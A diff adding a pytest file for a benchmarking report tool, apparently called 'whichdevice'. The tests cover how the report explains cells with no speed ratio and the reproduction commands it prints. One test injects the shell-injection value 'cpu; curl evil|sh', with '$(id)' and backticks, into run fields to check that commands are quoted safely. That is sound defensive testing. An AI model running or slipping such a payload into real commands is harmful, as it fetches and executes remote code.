@@ -1,0 +1,150 @@
+"""Cells without a ratio say why, and each can be measured again."""
+
+import shlex
+from collections.abc import Callable
+from pathlib import Path
+
+import synthetic
+import yaml
+from report_page import ROOT
+
+from whichdevice.cells import Run, parse_run
+from whichdevice.config.load import load_study
+from whichdevice.config.model import Device, Workload
+from whichdevice.records.schema import Record
+from whichdevice.report.advice import uncompared
+from whichdevice.report.cells import Links, cell_table, machine_cards, reproductions
+from whichdevice.report.verdict import answer_sentences, board
+from whichdevice.results import StudyResults
+from whichdevice.tables.make import write_tables
+
+BOTH = {"cpu": Device(kind="cpu"), "gpu": Device(kind="gpu")}
+REHEARSED = {"cpu": Device(kind="cpu"), "rehearsal": Device(kind="cpu", replicas=8)}
+
+
+def results(
+    folder: Path,
+    devices: dict[str, Device],
+    change: Callable[[Run, Record], Record | None] = lambda run, record: record,
+    sizes: tuple[int, ...] = (256,),
+) -> StudyResults:
+    study = synthetic.small_study(devices=devices, workloads={"mnist_cnn": Workload(batch_size=list(sizes))})
+    config, paths = synthetic.write_study(study, folder, artefacts=False, change=change)
+    write_tables(config, paths, ROOT / "config/published.csv", folder / "tables")
+    return StudyResults(config, folder / "tables")
+
+
+def verdicts(study: StudyResults, size: int = 256) -> dict[str, str]:
+    """What stands beside each measured cell of this batch size."""
+    rows = [row for row in cell_table(study)["rows"] if row["evidence"] == "measured"]
+    return {row["device"]: row["verdict"] for row in rows if row["batch_size"].value == size}
+
+
+def test_a_cell_that_failed_on_the_reference_is_not_said_to_be_missing_there(tmp_path: Path) -> None:
+    def change(run: Run, record: Record) -> Record:
+        broken = run.cell.device == "cpu" and run.cell.batch_size == 512
+        return synthetic.failed_record(synthetic.small_study(devices=BOTH), run) if broken else record
+
+    study = results(tmp_path, BOTH, change, sizes=(256, 512))
+    assert verdicts(study, 512) == {"gpu": "cpu: 0 of 2 ok, 2 failed"}
+
+
+def test_a_cell_that_the_reference_was_not_asked_for_is_not_run_there(tmp_path: Path) -> None:
+    devices = BOTH | {"own": Device(kind="gpu")}
+    study = results(tmp_path, devices)
+    study.summary = study.summary[study.summary["device"] != "cpu"]
+    study.speedups = study.speedups[study.speedups["device"] != "gpu"]
+    assert verdicts(study)["gpu"] == "not run on cpu"
+
+
+def test_repeats_without_a_partner_are_said_to_have_none(tmp_path: Path) -> None:
+    def apart(run: Run, record: Record) -> Record | None:
+        return record if (run.cell.device == "cpu") == (run.repeat == 1) else None
+
+    assert verdicts(results(tmp_path, BOTH, apart)) == {
+        "cpu": "the reference",
+        "gpu": "no repeat in common with cpu",
+    }
+
+
+def test_another_model_of_the_same_name_is_said_to_be_one(tmp_path: Path) -> None:
+    def wider(run: Run, record: Record) -> Record:
+        if run.cell.device == "gpu":
+            record.workload = record.workload.model_copy(update={"parameters": 7})
+        return record
+
+    assert verdicts(results(tmp_path, BOTH, wider))["gpu"] == "another model on cpu"
+
+
+def test_a_rehearsal_is_named_so_and_is_no_device_to_compare(tmp_path: Path) -> None:
+    study = results(tmp_path, REHEARSED)
+    assert verdicts(study) == {
+        "cpu": "no other device measured",
+        "rehearsal": "a rehearsal on virtual replicas, which shows no speed",
+    }
+    assert answer_sentences(study, board(study)) == [
+        "Only cpu was measured, so which device is best cannot be said.",
+        "Rehearsals on virtual replicas, which show no speed: rehearsal.",
+    ]
+    assert uncompared(study) == ["Measured on cpu, one device only, so there is nothing to compare: mnist_cnn."]
+
+
+def test_nothing_but_a_rehearsal_is_said_to_be_one(tmp_path: Path) -> None:
+    study = results(tmp_path, REHEARSED, lambda run, record: record if run.cell.device == "rehearsal" else None)
+    assert (
+        answer_sentences(study, board(study))[0]
+        == "Only rehearsal was measured, so which device is best cannot be said."
+    )
+
+
+def test_the_command_selects_this_cell_and_no_other(tmp_path: Path) -> None:
+    workload = Workload(batch_size=[8, 16], loop=["epoch", "fit"], fraction=[0.5, 1.0], sequence_length=[100, 168])
+    made = synthetic.small_study(workloads={"weather_gru": workload})
+    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
+    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
+    study = StudyResults(config, tmp_path / "tables")
+    cards = {key: card.number for key, card in machine_cards(study.runs).items()}
+    found = reproductions(study, tmp_path / "report.html", cards)
+    assert len(found) == len(study.summary)
+    card = found["gpu", "weather_gru", "tensorflow", "float32", 16, 0.5, "fit", 168]
+    only = yaml.safe_load(card["workflow"].split("'only=")[1].rstrip("'"))
+    call = load_study({**made.model_dump(mode="json"), "only": only})
+    assert call.only.model_dump(exclude_none=True) == {axis: [value] for axis, value in only.items()}
+    assert len(only) == 8 and card["workflow"].startswith(
+        "snakemake --cores 1 gpu --configfile results/small/config.yaml"
+    )
+    run = parse_run(card["by_hand"].split()[-1])
+    assert (run.cell.loop, run.cell.sequence_length, run.repeat) == ("fit", 168, 1)
+    assert [(tmp_path / address).is_file() for _, _, address in card["records"]] == [True, True]
+    assert (tmp_path / card["config"]).is_file() and card["machines"] == [2]
+
+
+def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
+    evil = "cpu; curl evil|sh"
+    made = synthetic.small_study()
+    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
+    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
+    study = StudyResults(config, tmp_path / "tables")
+    runs = study.runs.copy()
+    study.runs = runs.assign(kind=evil, device=evil, run=evil + "/$(id)/`id`/r1")
+    for card in reproductions(study, tmp_path / "report.html", {}).values():
+        for command in (card["workflow"], card["by_hand"], card["then"]):
+            words = shlex.split(command)
+            assert shlex.join(words) == command and command.count(evil) == sum(evil in word for word in words)
+        assert shlex.split(card["workflow"])[:4] == ["snakemake", "--cores", "1", evil]
+
+
+def test_a_run_of_an_unknown_kind_is_measured_again_by_its_cell_alone(tmp_path: Path) -> None:
+    made = synthetic.small_study()
+    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
+    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
+    study = StudyResults(config, tmp_path / "tables")
+    study.runs = study.runs.assign(kind=None)
+    for card in reproductions(study, tmp_path / "report.html", {}).values():
+        assert card["workflow"].startswith("snakemake --cores 1 all --configfile")
+
+
+def test_addresses_are_relative_to_the_page_and_a_bucket_is_none(tmp_path: Path) -> None:
+    links = Links(tmp_path / "report.html")
+    assert links.to(tmp_path / "runs/a/record.json") == "runs/a/record.json"
+    assert links.to("gs://bucket/a/record.json") is None
